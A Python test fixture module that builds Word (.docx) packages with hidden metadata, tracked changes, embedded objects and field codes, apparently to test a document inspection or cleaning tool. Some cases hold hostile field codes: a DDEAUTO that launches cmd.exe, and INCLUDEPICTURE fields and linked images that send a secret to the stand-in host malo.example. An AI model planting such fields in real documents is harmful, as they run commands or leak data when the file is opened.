"""Word documents."""

from __future__ import annotations

import io
from collections.abc import Callable

import docx

from tests.files_corpus import AUTHOR, SECRET, plain_docx, plain_xlsx, repack, rich_docx
from tests.office.build import (
    EMF,
    JPEG,
    MICROSOFT,
    NAMESPACES,
    OLE,
    PNG,
    SVG,
    VND,
    Case,
    Opc,
    chart,
    diagram,
    properties,
)

W = f"{VND}.wordprocessingml"
Change = Callable[[Opc, str], str]


def document(
    change: Change | str = "",
    flavour: str = "word",
    main: str = "word/document.xml",
    extra: dict[str, bytes] | None = None,
) -> bytes:
    """Return a docx with «Texto del informe.» and what `change` adds to its package and returns for its body."""
    package = Opc()
    package.relate("officeDocument", main if flavour != "syncfusion" else f"/{main}", "")
    properties(package, flavour)
    suffix = "2" if flavour == "online" else ""
    package.add(
        f"word/styles{suffix}.xml",
        f'<w:styles {NAMESPACES}><w:style w:type="paragraph" w:rsid="00AB12CD"><w:name w:val="Normal"/></w:style></w:styles>',
        "styles",
        main,
        f"{W}.styles+xml",
    )
    package.add(
        f"word/settings{suffix}.xml",
        f'<w:settings {NAMESPACES}><w:rsids><w:rsid w:val="00AB12CD"/></w:rsids><w:docVars><w:docVar w:name="a" w:val="{SECRET}"/></w:docVars></w:settings>',
        "settings",
        main,
        f"{W}.settings+xml",
    )
    package.add("word/fontTable.xml", f"<w:fonts {NAMESPACES}/>", "fontTable", main, f"{W}.fontTable+xml")
    if flavour != "libreoffice":
        package.add("word/theme/theme1.xml", f"<a:theme {NAMESPACES}/>", "theme", main, f"{VND}.theme+xml")
    if flavour in ("word", "wps"):
        package.add("customXml/item1.xml", f"<a>{SECRET}</a>", "customXml", main)
        package.add("customXml/itemProps1.xml", "<b/>", "customXmlProps", "customXml/item1.xml")
    if flavour == "google":
        package.relate("http://customschemas.google.com/relationships/metadata", "metadata", main)
        package.parts["word/metadata"] = SECRET.encode()
    body = change if isinstance(change, str) else change(package, main)
    package.parts[main] = (
        f"<w:document {NAMESPACES}><w:body>{paragraph('Texto del informe.')}{body}<w:sectPr/></w:body></w:document>".encode()
    )
    package.types[main] = f"{W}.document.main+xml"
    return package.data(extra)


def paragraph(words: str) -> str:
    return f'<w:p w:rsidR="00AB12CD"><w:r><w:t>{words}</w:t></w:r></w:p>'


def field(instruction: str, shown: str) -> str:
    """A field in runs, as Word writes it, its instruction in two pieces."""
    half = 3  # Word cuts where it likes
    code = "".join(
        f'<w:r><w:instrText xml:space="preserve">{part}</w:instrText></w:r>'
        for part in (instruction[:half], instruction[half:])
    )
    return (
        f'<w:p><w:r><w:t>Antes </w:t></w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r>{code}<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
        f'<w:r><w:t>{shown}</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r><w:r><w:t> después</w:t></w:r></w:p>'
    )


def simple(instruction: str, shown: str) -> str:
    return f'<w:p><w:fldSimple w:instr="{instruction}"><w:r><w:t>{shown}</w:t></w:r></w:fldSimple></w:p>'


def picture_of(package: Opc, main: str, data: bytes, ending: str, *, more: str = "") -> str:
    id_ = package.add(f"word/media/image{len(package.parts)}.{ending}", data, "image", main)
    return drawn(f'r:embed="{id_}"', more)


def drawn(attribute: str, more: str = "") -> str:
    return (
        f'<w:p><w:r><w:drawing><wp:inline><wp:docPr id="1" name="Imagen" descr="C:\\Users\\{SECRET}\\foto.jpg"/><a:graphic><a:graphicData uri="p">'
        f"<pic:pic><pic:blipFill><a:blip {attribute}>{more}</a:blip></pic:blipFill></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>"
    )


def _framed(package: Opc, main: str, content: str) -> str:
    return f'<w:p><w:r><w:drawing><wp:inline><wp:docPr id="3" name="Gráfico"/><a:graphic><a:graphicData uri="c">{content}</a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>'


def _notes(package: Opc, main: str) -> str:
    ids = {}
    for kind, root in (("header", "hdr"), ("footer", "ftr")):
        body = f"<w:{root} {NAMESPACES}>{paragraph(f'{kind} visible')}{field(' PAGE ', '1')}</w:{root}>"
        ids[kind] = package.add(f"word/{kind}1.xml", body, kind, main, f"{W}.{kind}+xml")
    for kind in ("footnote", "endnote"):
        body = f'<w:{kind}s {NAMESPACES}><w:{kind} w:id="1">{paragraph(f"{kind} visible")}</w:{kind}></w:{kind}s>'
        package.add(f"word/{kind}s.xml", body, f"{kind}s", main, f"{W}.{kind}s+xml")
    return (
        '<w:p><w:r><w:footnoteReference w:id="1"/></w:r></w:p><w:p><w:pPr><w:sectPr>'
        f'<w:headerReference w:type="default" r:id="{ids["header"]}"/><w:footerReference w:type="default" r:id="{ids["footer"]}"/></w:sectPr></w:pPr></w:p>'
    )


def _comments(name: str) -> Change:
    def change(package: Opc, main: str) -> str:
        package.add(
            name,
            f'<w:comments {NAMESPACES}><w:comment w:id="1" w:author="{AUTHOR}">{paragraph(SECRET)}</w:comment></w:comments>',
            "comments",
            main,
            f"{W}.comments+xml",
        )
        package.add("word/people.xml", f'<w15:people xmlns:w15="http://schemas.microsoft.com/office/word/2012/wordml"><w15:person w15:author="{AUTHOR}"/></w15:people>',
                    f"{MICROSOFT}/2011/relationships/people", main, f"{W}.people+xml")  # fmt: skip
        return '<w:p><w:commentRangeStart w:id="1"/><w:r><w:t>comentado</w:t></w:r><w:commentRangeEnd w:id="1"/><w:r><w:commentReference w:id="1"/></w:r></w:p>'

    return change


_TRACKED = (
    f'<w:p><w:ins w:id="1" w:author="{AUTHOR}"><w:r><w:t>insertado</w:t></w:r></w:ins><w:del w:id="2" w:author="{AUTHOR}"><w:r><w:delText>{SECRET}</w:delText></w:r></w:del>'
    f'<w:r><w:rPr><w:b/><w:rPrChange w:id="3" w:author="{AUTHOR}"><w:rPr/></w:rPrChange></w:rPr><w:t>negrita</w:t></w:r></w:p>'
    f'<w:tbl><w:tr><w:trPr><w:del w:id="5" w:author="{AUTHOR}"/></w:trPr><w:tc>{paragraph(SECRET)}</w:tc></w:tr><w:tr><w:trPr><w:ins w:id="6" w:author="{AUTHOR}"/></w:trPr><w:tc>{paragraph("fila nueva")}</w:tc></w:tr></w:tbl>'
    f'<w:p><w:moveFromRangeStart w:id="7" w:author="{AUTHOR}" w:name="m"/><w:moveFrom w:id="8" w:author="{AUTHOR}"><w:r><w:t>{SECRET}</w:t></w:r></w:moveFrom><w:moveFromRangeEnd w:id="7"/>'
    f'<w:moveTo w:id="9" w:author="{AUTHOR}"><w:r><w:t>mudado</w:t></w:r></w:moveTo></w:p>'
)
_CONTROLS = (
    '<w:sdt><w:sdtPr><w:alias w:val="Entidad"/><w:dataBinding w:xpath="/a" w:storeItemID="{1}"/><w:dropDownList><w:listItem w:value="a"/></w:dropDownList></w:sdtPr>'
    f"<w:sdtContent>{paragraph('Ministerio elegido')}</w:sdtContent></w:sdt>"
)
_EQUATION = "<w:p><m:oMathPara><m:oMath><m:r><m:t>E=mc</m:t></m:r></m:oMath></m:oMathPara></w:p>"


def _object(
    program: str,
    data: bytes = OLE,
    kind: str = "oleObject",
    name: str = "word/embeddings/oleObject1.bin",
    said: str = "",
) -> Change:
    def change(package: Opc, main: str) -> str:
        image = package.add("word/media/image9.emf", EMF, "image", main)
        id_ = package.add(name, data, kind, main, said)
        return (
            f'<w:p><w:r><w:object w:dxaOrig="900"><v:shape id="_x1" style="width:9pt"><v:imagedata r:id="{image}" o:title=""/></v:shape>'
            f'<o:OLEObject Type="Embed" ProgID="{program}" ShapeID="_x1" r:id="{id_}"/></w:object></w:r><w:r><w:t>tras el objeto</w:t></w:r></w:p>'
        )

    return change


def _linked(package: Opc, main: str) -> str:
    cached = package.add("word/media/image1.jpeg", JPEG, "image", main)
    link = package.relate("image", f"file:///C:/Users/{SECRET}/foto.jpg", main, outside=True)
    only = package.relate("image", f"http://malo.example/{SECRET}.png", main, outside=True)
    return (
        drawn(f'r:embed="{cached}" r:link="{link}"')
        + drawn(f'r:link="{only}"')
        + (
            f'<w:p><w:r><w:pict><v:shape><v:imagedata r:id="{cached}" r:href="{link}" o:href="http://malo.example/{SECRET}"/></v:shape></w:pict></w:r></w:p>'
        )
    )


def _ink(package: Opc, main: str) -> str:
    """A signature drawn by hand: InkML in new programs, a picture in old ones."""
    image = package.add("word/media/firma.png", PNG, "image", main)
    ink = package.add(
        "word/ink/ink1.xml",
        f'<inkml:ink xmlns:inkml="http://www.w3.org/2003/InkML"><inkml:annotation>{SECRET}</inkml:annotation></inkml:ink>',
        "customXml",
        main,
        "application/inkml+xml",
    )
    return (
        f'<w:p><w:r><mc:AlternateContent><mc:Choice Requires="wpi"><w:drawing><w14:contentPart r:id="{ink}"/></w:drawing></mc:Choice>'
        f'<mc:Fallback><w:drawing><pic:pic><a:blip r:embed="{image}"/></pic:pic></w:drawing></mc:Fallback></mc:AlternateContent></w:r></w:p>'
    )


def _embedded_font(package: Opc, main: str) -> str:
    letters = bytes(range(32)) + b"\0" * 12 + b"head" + b"\0" * 300
    package.add("word/fonts/font1.odttf", letters, "font", "word/fontTable.xml", f"{VND}.obfuscatedFont")
    package.parts["word/fontTable.xml"] = (
        f'<w:fonts {NAMESPACES}><w:font w:name="Lato"><w:embedRegular r:id="rId1"/></w:font></w:fonts>'.encode()
    )
    return ""


def _links(package: Opc, main: str) -> str:
    good = package.relate("hyperlink", "https://www.gob.pe/minem", main, outside=True)
    bad = package.relate("hyperlink", f"file:///\\\\servidor\\{SECRET}\\a.docx", main, outside=True)
    return "".join(
        f'<w:p><w:hyperlink r:id="{i}"><w:r><w:t>{t}</w:t></w:r></w:hyperlink></w:p>'
        for i, t in ((good, "gob.pe"), (bad, "carpeta"))
    )


def _glossary(package: Opc, main: str) -> str:
    package.add(
        "word/glossary/document.xml",
        f"<w:glossaryDocument {NAMESPACES}><w:docParts>{paragraph(SECRET)}</w:docParts></w:glossaryDocument>",
        "glossaryDocument",
        main,
        f"{W}.document.glossary+xml",
    )
    package.add(
        "word/glossary/styles.xml",
        f"<w:styles {NAMESPACES}/>",
        "styles",
        "word/glossary/document.xml",
        f"{W}.styles+xml",
    )
    return ""


def _svg(package: Opc, main: str) -> str:
    drawing = package.add("word/media/dibujo.svg", SVG, "image", main, "image/svg+xml")
    return picture_of(
        package,
        main,
        PNG,
        "png",
        more=f'<a:extLst><a:ext uri="{{96DAC541}}"><asvg:svgBlip r:embed="{drawing}"/></a:ext></a:extLst>',
    )


def _signed(package: Opc, main: str) -> str:
    kind = "http://schemas.openxmlformats.org/package/2006/relationships/digital-signature"
    package.add("_xmlsignatures/origin.sigs", b"", f"{kind}/origin")
    package.add(
        "_xmlsignatures/sig1.xml", f"<Signature>{AUTHOR}</Signature>", f"{kind}/signature", "_xmlsignatures/origin.sigs"
    )
    return f'<w:p><w:r><w:pict><v:shape><o:signatureline o:suggestedsigner="{AUTHOR}"/></v:shape></w:pict></w:r></w:p>'


def _python_docx() -> bytes:
    made = docx.Document()
    made.core_properties.author = AUTHOR
    made.add_heading("Plan anual", 1)
    table = made.add_table(rows=2, cols=2)
    table.cell(1, 1).text = "S/ 1 250,00"
    made.add_paragraph("Punto", style="List Bullet")
    out = io.BytesIO()
    made.save(out)
    return out.getvalue()


_FIELDS = {
    "DOCPROPERTY": (" DOCPROPERTY  Expediente  \\* MERGEFORMAT ", "GT-ACT-017-2026"),
    "SUBJECT": (" SUBJECT ", "GT-ACT-018-2026"),
    "TITLE": (" TITLE ", "Acta de la sesión"),
    "KEYWORDS": (" KEYWORDS ", "minería"),
    "DOCVARIABLE": (" DOCVARIABLE num ", "N.° 44"),
    "MERGEFIELD": (" MERGEFIELD Nombre ", "«Nombre»"),
    "REF": (" REF _Ref1 \\h ", "Cuadro 3"),
    "SEQ": (" SEQ Tabla \\* ARABIC ", "7"),
    "ADDIN": (f" ADDIN ZOTERO_ITEM CSL_CITATION {SECRET} ", "(Defensoría, 2019)"),
    "IF": (f" IF 1 = 1 &quot;sí&quot; &quot;{SECRET}&quot; ", "sí"),
}
_CALLING = {
    "INCLUDETEXT": f" INCLUDETEXT &quot;C:\\\\Users\\\\{SECRET}\\\\a.docx&quot; ",
    "INCLUDEPICTURE": f" INCLUDEPICTURE &quot;http://malo.example/{SECRET}.png&quot; \\d ",
    "LINK": f" LINK Excel.Sheet.8 &quot;C:\\\\{SECRET}.xls&quot; Hoja1!F1C1 \\a ",
    "DDEAUTO": f" DDEAUTO c:\\\\windows\\\\cmd.exe &quot;/k {SECRET}&quot; ",
    "HYPERLINK path": f" HYPERLINK &quot;file:///C:\\\\Users\\\\{SECRET}\\\\a.pdf&quot; ",
    "HYPERLINK share": f" HYPERLINK &quot;\\\\\\\\servidor\\\\{SECRET}&quot; \\o &quot;{SECRET}&quot; ",
}


def _framed_chart(workbook: Callable[[], bytes] | None, *, outside: bool = False) -> Change:
    return lambda p, m: _framed(
        p, m, f'<c:chart r:id="{chart(p, m, "word", workbook() if workbook else None, outside=outside)}"/>'
    )


def _case(
    name: str,
    change: Change | str = "",
    keeps: tuple[str, ...] = (),
    says: tuple[str, ...] = (),
    pictures: int = 0,
    **options: object,
) -> Case:
    return Case(name, "docx", lambda: document(change, **options), ("Texto del informe.", *keeps), says, pictures)  # type: ignore[arg-type]


_CHART = ("185", "12.5", "Serie conflictos")


def _strict(data: bytes) -> bytes:
    """The same as «Documento Open XML estricto»: every name of ECMA is ISO's."""

    def change(parts: dict[str, bytes]) -> None:
        for name, part in parts.items():
            for ours, theirs in _ISO.items():
                part = part.replace(ours, theirs)
            parts[name] = part

    return repack(data, change)


_ISO = {
    b"http://schemas.openxmlformats.org/officeDocument/2006/relationships": b"http://purl.oclc.org/ooxml/officeDocument/relationships",
    b"http://schemas.openxmlformats.org/wordprocessingml/2006/main": b"http://purl.oclc.org/ooxml/wordprocessingml/main",
    b"http://schemas.openxmlformats.org/drawingml/2006/": b"http://purl.oclc.org/ooxml/drawingml/",
}
CASES = [
    Case("strict", "docx", lambda: _strict(document(lambda p, m: _notes(p, m) + _comments("word/comments.xml")(p, m) + _TRACKED + field(*_FIELDS["SUBJECT"]) + _linked(p, m))),
         ("Texto del informe.", "footnote visible", "insertado", "mudado", "GT-ACT-018-2026"), ("comments", "changes", "insertions", "external-links"), 1),
    Case("python-docx", "docx", _python_docx, ("Plan anual", "S/ 1 250,00", "Punto")),
    Case("rich", "docx", rich_docx, ("Texto visible.", "agregado", "Cabecera"), ("comments", "insertions", "changes"), 1),
    Case("plain", "docx", plain_docx, ("Texto honesto.",)),
    *(_case(f"flavour {f}", flavour=f, says=("properties",) if f != "google" else ("unknown-parts",)) for f in ("word", "libreoffice", "google", "wps", "syncfusion")),
    _case("Word Online", flavour="online", main="word/document2.xml"),
    _case("zipped again by macOS", extra={"__MACOSX/word/._document.xml": b"\0\5\x16\7", "word/.DS_Store": b"\0\0\0\1Bud1", "word/": b""}),
    _case("headers and notes", _notes, ("header visible", "footer visible", "footnote visible", "endnote visible")),
    _case("comments", _comments("word/comments.xml"), ("comentado",), ("comments",)),
    _case("comments under another name", _comments("word/notas/x17.xml"), ("comentado",), ("comments",)),
    _case("tracked changes", _TRACKED, ("insertado", "negrita", "fila nueva", "mudado"), ("changes", "insertions", "format-changes")),
    _case("content controls", _CONTROLS, ("Ministerio elegido",)),
    _case("equation", _EQUATION, ("E=mc",)),
    *(_case(f"Equation 3.0 {p}", _object(p), ("tras el objeto",), ("embedded-objects",), 1) for p in ("Equation.3", "Equation.DSMT4")),
    _case("object in another folder", _object("Package", name="word/otros/cosa.dat", said=f"{VND}.oleObject"), ("tras el objeto",), ("embedded-objects",), 1),
    _case("workbook inside", _object("Excel.Sheet.12", plain_xlsx(), "package", "word/embeddings/L.xlsx", f"{VND}.spreadsheetml.sheet"), ("tras el objeto",), (), 1),
    _case("zip inside", _object("Package", b"PK\3\4" + SECRET.encode(), "package", "word/embeddings/x.zip", "application/zip"), ("tras el objeto",), ("embedded-objects",), 1),
    _case("chart", _framed_chart(plain_xlsx), _CHART),
    _case("chart of another workbook", _framed_chart(None, outside=True), _CHART, ("external-links",)),
    _case("smart art", lambda p, m: _framed(p, m, f"<dgm:relIds {diagram(p, m, 'word', 'Pilar Estado')}/>"), ("Pilar Estado",)),
    _case("photographs", lambda p, m: picture_of(p, m, JPEG, "jpeg") + picture_of(p, m, PNG, "png"), (), ("gps", "picture-data"), 2),
    _case("drawing as svg", _svg, (), (), 2),
    _case("linked pictures", _linked, (), ("external-links",), 1),
    _case("signature by hand", _ink, (), (), 1),
    _case("digital signature", _signed, (), ("signatures",)),
    _case("embedded typeface", _embedded_font),
    _case("links", _links, ("gob.pe", "carpeta"), ("external-links",)),
    _case("building blocks", _glossary, (), ("building-blocks",)),
    *(_case(f"field {n}", field(*f), (f[1], "Antes", "después")) for n, f in _FIELDS.items()),
    *(_case(f"simple field {n}", simple(*_FIELDS[n]), (_FIELDS[n][1],)) for n in ("DOCPROPERTY", "SUBJECT", "REF")),
    *(_case(f"field {n}", field(c, "lo que muestra"), ("lo que muestra", "después"), ("field-codes",)) for n, c in _CALLING.items()),
]  # fmt: skip
